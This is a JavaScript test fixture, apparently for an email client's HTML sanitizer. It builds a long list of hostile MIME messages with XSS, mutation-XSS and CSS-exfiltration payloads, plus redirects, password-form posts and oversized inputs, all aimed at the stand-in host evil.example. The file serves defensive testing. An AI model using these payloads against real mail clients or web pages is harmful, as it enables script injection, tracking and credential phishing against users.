// SPDX-License-Identifier: MIT
//
// Mails that try to make whoever looks at them run something, ask for something, or say something.
'use strict';

const EVIL = 'http://evil.example/';
const RUN = "parent.document.title='run';document.title='run';top.location='" + EVIL + "';alert(1)";
const SCRIPT = '<script>' + RUN + '</script>';
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const attr = (text) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
const inFrames = (html, deep) => (deep === 0 ? html : '<iframe srcdoc="' + attr(inFrames(html, deep - 1)) + '"></iframe>');

const PAGES = [
  // Scripts wherever they could be.
  SCRIPT, SCRIPT.replace('<script', '<script src=' + EVIL), '<SCRIPT/x>' + RUN + '</SCRIPT >', '<scr\0ipt>' + RUN + '</scr\0ipt>',
  '<svg><script>' + RUN + '</script></svg>', '<svg><script href="' + EVIL + '"/></svg>', '<math><mtext><script>' + RUN + '</script>',
  '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + '<img src=x onerror="' + RUN + '"></foreignObject></svg>',
  '<noscript><p title="</noscript>' + SCRIPT + '">', '<title><!--</title>' + SCRIPT + '-->', '<textarea></textarea>' + SCRIPT,
  '<style></style>' + SCRIPT, '<xmp></xmp>' + SCRIPT + '<xmp><img src=x onerror="' + RUN + '"></xmp>', '<plaintext>' + SCRIPT,
  '<noembed>' + SCRIPT + '</noembed><noframes>' + SCRIPT + '</noframes>', '<!--[if IE]>' + SCRIPT + '<![endif]-->', '<![CDATA[' + SCRIPT + ']]>',
  '<svg><![CDATA[' + SCRIPT + ']]></svg>', '<svg><style><img src=x onerror="' + RUN + '"></style></svg>', '<svg><title><img src=x onerror=' + RUN + '>',
  '<math><style><!--</style><img src=x onerror="' + RUN + '">--></style></math>', '<svg></p><style><a id="</style><img src=1 onerror=' + RUN + '>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=' + RUN + '>', '<table><svg><style></table><img src=x onerror=' + RUN + '>',
  '<svg><embed><style><!--</style><img src=' + EVIL + '>-->', '<select><style></select><img src=' + EVIL + '></style>',
  '<template shadowrootmode=open>' + SCRIPT + '</template>', '<div><template shadowrootmode=open><img src=' + EVIL + '></template></div>',
  '<script type=speculationrules>{"prefetch":[{"urls":["' + EVIL + '"]}]}</script>', '<script type=importmap>{"imports":1}</script>',
  // Handlers of events.
  '<body onload="' + RUN + '" onpageshow="' + RUN + '">x', '<img src=x onerror="' + RUN + '">', '<img src=x oNeRrOr=' + RUN + '>', '<img/onerror="' + RUN + '"/src=x>',
  '<input autofocus onfocus="' + RUN + '"><select autofocus onfocus=1></select><textarea autofocus></textarea><button autofocus>b</button>',
  '<details open ontoggle="' + RUN + '">x</details>', '<video><source onerror="' + RUN + '"></video>', '<marquee onstart="' + RUN + '">x</marquee>',
  '<p style="animation:x" onanimationstart="' + RUN + '">x', '<p on\0load=x onclick\0="x" "onload=y">',
  // URLs of scripts.
  '<a href="javascript:' + RUN + '">x</a>', '<a href=" java&#10;script:' + RUN + '" target=_top>x</a>', '<a href="data:text/html,' + attr(SCRIPT) + '" target=_blank>x</a>',
  '<iframe src="javascript:' + RUN + '"></iframe>', '<form action="javascript:' + RUN + '"><button>x</button></form>', '<button formaction="javascript:' + RUN + '" form=x>x</button>',
  '<svg><a xlink:href="javascript:' + RUN + '"><text y=20>x</text></a></svg>', '<math href="javascript:' + RUN + '"><mi xlink:href="javascript:1">x</mi></math>',
  '<svg><animate attributeName=href values="javascript:1"/><set attributeName=xlink:href to="' + EVIL + '"/><image href="' + EVIL + '"/></svg>',
  '<img src="javascript:' + RUN + '"><img src="vbscript:x"><object data="javascript:1"></object><embed src="javascript:1">',
  '<map name=m><area href="javascript:' + RUN + '" shape=rect coords=0,0,9,9></map><img usemap=#m src=x>',
  // What loads, leads away, or says something by itself.
  '<meta http-equiv=refresh content="0;url=' + EVIL + '"><meta http-equiv="refresh" content="0">', '<meta name=viewport content="foo=bar,width=-1"><meta name=referrer content=x>',
  '<meta http-equiv=Content-Security-Policy content="foo; script-src *"><meta http-equiv=set-cookie content=a=b><meta http-equiv=origin-trial content=x><meta http-equiv=delegate-ch content="x y">',
  '<base href="' + EVIL + '" target=_top><a href=x>x</a><img src=y>', '<link rel=stylesheet href="' + EVIL + '"><link rel=preload as=image href="' + EVIL + '"><link rel="dns-prefetch preconnect prefetch manifest icon" href="' + EVIL + '">',
  '<img src="' + EVIL + '" srcset="' + EVIL + ' 2x"><picture><source srcset="' + EVIL + '"><img srcset="' + EVIL + '"></picture><image src="' + EVIL + '">',
  '<img lowsrc="' + EVIL + '" dynsrc="' + EVIL + '" src=//evil.example/><input type=image src="' + EVIL + '"><input type=image src=\\\\evil.example\\x>',
  '<video src="' + EVIL + '" poster="' + EVIL + '" autoplay><track default src="' + EVIL + '"></video><audio autoplay src="' + EVIL + '"></audio><bgsound src="' + EVIL + '">',
  '<iframe src="' + EVIL + '"></iframe><iframe src="data:text/html,' + attr(SCRIPT) + '"></iframe><iframe src="//evil.example/"></iframe><iframe src="about:blank"></iframe><iframe src="blob:x">' + SCRIPT,
  '<object data="' + EVIL + '"><embed src="' + EVIL + '"><applet code=x archive="' + EVIL + '"></applet><param name=src value="' + EVIL + '"></object>',
  '<frameset><frame src="' + EVIL + '"></frameset>', '<fencedframe></fencedframe><portal src="' + EVIL + '"></portal><webview src="' + EVIL + '"></webview>',
  '<form action="' + EVIL + '"><input type=password name=p><input type=file><input type=submit></form>', '<body background="' + EVIL + '"><table background="' + EVIL + '"><td background="' + EVIL + '">x',
  '<html manifest="' + EVIL + '"><head profile="' + EVIL + '">', '<a ping="' + EVIL + '" attributionsrc="' + EVIL + '" href="' + EVIL + '">x</a>',
  '<input type=number value=abc><input type=color value=zz><input type=date value=q><input pattern="(" type=email value=q><input type=range value=q><input type=month value=q><input type=week value=q><input type=time value=q><input type=datetime-local value=q>',
  '<svg width=abc><path d=foo /><use href=""/><use href="' + EVIL + '#x"/><circle r=-1 /></svg>', '<img src="data:image/png;base64,' + PNG + '"><img src="data:text/html,' + attr(SCRIPT) + '">',
  '<img src="data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><script>' + RUN + '</script><image href="' + EVIL + '"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="' + EVIL + '"/></foreignObject></svg>') + '">',
  '<permission type=geolocation></permission><geolocation autolocate></geolocation><usermedia></usermedia><x-y is=z>t</x-y><dialog open>d</dialog><p popover>p',
  // Style sheets.
  '<style>@import "' + EVIL + '";@import url(' + EVIL + ') screen;@\\69mport "' + EVIL + '";</style>', '<style>*{background:url(' + EVIL + ');b\\61ckground-image:u\\72l("' + EVIL + '")}</style>x',
  '<p style="background:url(&quot;' + EVIL + '&quot;);background:url(//evil.example);list-style:url(' + EVIL + ');width:expression(alert(1));behavior:url(' + EVIL + ');-moz-binding:url(' + EVIL + ')">x',
  '<style>:root{--u:"' + EVIL + '";--v:url(' + EVIL + ')}p{background:image-set(var(--u) 1x)}div{background:im\\61ge-set(var(--u) 1x);background:-webkit-image-set(v\\61r(--u) 1x)}b{background:var(--v)}</style><p>x<div>y</div><b>z</b>',
  '<p data-x="' + EVIL + '" style="background:image-set(attr(data-x) 1x);background:image-set(attr(data-x type(<url>)) 1x)">x', '<style>@font-face{font-family:f;src:url(' + EVIL + ')}p{font-family:f}</style><p>x',
  '<style>@font-face{font-family:f;src:url(data:font/woff2,xx)}p{font-family:f}</style><p>x', '<style>@font-face{font-family:f;src:url(data:image/png;base64,' + PNG + ')}p{font-family:f}</style><p>x',
  '<style>p{cursor:url(' + EVIL + '),auto;filter:url(' + EVIL + '#a);mask:url(' + EVIL + ');clip-path:url(' + EVIL + '#b);shape-outside:url(' + EVIL + ');content:url(' + EVIL + ');border-image:url(' + EVIL + ') 1;offset-path:url(' + EVIL + ')}p::before{content:url(' + EVIL + ')}</style><p>x',
  '<style>p{color:red}</style' + '\n>' + SCRIPT + '<style>p::after{content:"</style>' + SCRIPT + '"}</style>', '<style><!-- p{background:url(' + EVIL + ')} --></style><p>x', '<style>/*</style>' + SCRIPT + '<style>*/</style>',
  '<style>a{b:"\n;background:url(' + EVIL + ')}p{background:url(' + EVIL + '\\\n)}p{background:url( "' + EVIL + '" )}</style><p>x', '<style>@namespace url(' + EVIL + ');@charset "x";@layer{a[data-link]::after{content:none!important}}a::after{display:none!important}</style><a href="' + EVIL + '">x</a>',
  '<link rel=stylesheet href="data:text/css,p{background:url(' + EVIL + ')}"><style>@import "data:text/css,p{}";</style><p>x', '<input type=range style="-webkit-appearance:slider-vertical;appearance:sl\\69 der-vertical">',
  '<style media="&quot;><script>' + RUN + '</script>">p{}</style><style type=text/less>@import "' + EVIL + '"</style>', '<svg><style>@import "' + EVIL + '";p{background:url(' + EVIL + ')}</style></svg><svg><style>&#64;import "' + EVIL + '"</style></svg>',
  // Out of the frame, out of the attribute, out of the limits.
  '</iframe></template></div>' + SCRIPT, '"></iframe>' + SCRIPT, '&quot;&gt;&lt;script&gt;' + RUN + '&lt;/script&gt;', '<p title=\'"><script>' + RUN + '</script>\'>', '<p title="&quot; onclick=&quot;x">', '<p id=\0 class="\0">\0</p>', '</body></html>' + SCRIPT,
  inFrames(SCRIPT + '<img src=' + EVIL + '><a href=' + EVIL + '>x</a>', 1), inFrames(SCRIPT + '<img src=' + EVIL + '>', 4), inFrames(SCRIPT + '<img src=' + EVIL + '>', 12),
  '<a href="' + EVIL + 'a'.repeat(1e6) + '">long</a><p title="' + '"'.repeat(10) + 'b'.repeat(1e6) + '">', '<p style="' + 'background:url(' + EVIL + ');'.repeat(3e4) + '">x', '<p ' + 'a=b '.repeat(2e5) + '>x', '<p class=' + '&'.repeat(1e6) + '>',
  '<div>'.repeat(2000) + SCRIPT, '<b><i>'.repeat(500) + '<table>'.repeat(200) + SCRIPT, '<p title="' + 'x'.repeat(1e5), '<' + 'p'.repeat(1e6) + '>', '\0'.repeat(1e5) + SCRIPT, '<a href=' + EVIL + '><a href=' + EVIL + '><img src=cid:none></a>',
  '\u00ef\u00bb\u00bf<!DOCTYPE html PUBLIC "x" "' + EVIL + '"><?xml-stylesheet href="' + EVIL + '"?><p>x',
];

const bundle = (parts) => 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n' +
  parts.map(([type, id, body, more = '']) => '--b\r\nContent-Type: ' + type + '\r\nContent-ID: <' + id + '>\r\n' + more + '\r\n' + body + '\r\n').join('') + '--b--\r\n';

const BASE64 = 'Content-Transfer-Encoding: base64\r\n';
const BUNDLES = [
  [['text/html', 'p', '<img src=cid:i><body background=cid:i><img src=cid:s><link rel=stylesheet href=cid:c><iframe src=cid:f></iframe><frame src=cid:f><iframe src=cid:p></iframe><object data=cid:f></object>'],
    ['image/png', 'i', PNG, BASE64], ['image/svg+xml', 's', '<svg xmlns="http://www.w3.org/2000/svg"><script>' + RUN + '</script><image href="' + EVIL + '"/></svg>'],
    ['text/css', 'c', '@import "cid:d";@import "' + EVIL + '";p{background:url(cid:i)}b{background:url(' + EVIL + ')}c{d:"</style>' + SCRIPT + '"}'], ['text/css', 'd', '@import "cid:c";i{background:url(cid:i)}'],
    ['text/html', 'f', SCRIPT + '<img src=cid:i><img src=' + EVIL + '><a href=' + EVIL + '>x</a><iframe src=cid:p></iframe>']],
  [['text/html', 'p', '<style>@import "cid:c" screen;</style><img src=cid:h><img src=cid:x><p style="background:url(cid:h);mask:url(cid:i)">x<video src=cid:i></video><audio controls src=cid:h></audio>'],
    ['text/html', 'h', SCRIPT], ['application/octet-stream', 'x', SCRIPT], ['text/css', 'c', '/* <!-- */ @font-face{font-family:f;src:url(cid:i)}*{font-family:f}'], ['image/png', 'i', PNG, BASE64]],
].map(bundle);

const HOSTILE = [
  ...PAGES.map((page) => 'MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' + page),
  ...BUNDLES,
  'MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n' + SCRIPT + '\r\n<' + EVIL + '"onmouseover="x> javascript:alert(1) </pre></iframe>' + SCRIPT + '\0\x1b[31m\r\n',
  'MIME-Version: 1.0\r\nContent-Type: text/plain; format=flowed; delsp=yes\r\n\r\n<http://evil.example/a \r\nb?<script>> x\r\n',
];

module.exports = { HOSTILE };
